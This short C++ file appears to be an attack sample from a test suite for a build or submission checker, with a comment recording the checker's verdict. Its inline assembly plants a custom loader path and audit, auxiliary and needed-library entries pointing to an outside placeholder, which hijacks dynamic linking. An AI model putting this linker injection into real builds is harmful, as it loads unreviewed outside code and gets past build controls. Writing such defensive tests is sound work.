// attack: adds a loader of its own and libraries to the tables that the linker makes
// verdict: wrong_shape

#include "matrix_attention.hpp"

asm(R"(
  .pushsection .interp, "a"
  .asciz "@OUTSIDE@/loader"
  .section .dynstr, "a"
name:
  .asciz "@OUTSIDE@/audit.so"
  .section .dynamic, "aw"
  .quad 0x7ffffffd, 1  # DT_AUXILIARY
  .quad 0x6ffffefc, 1  # DT_AUDIT
  .quad 1, 1           # DT_NEEDED
  .popsection
)");

#include "returns_nothing.hpp"
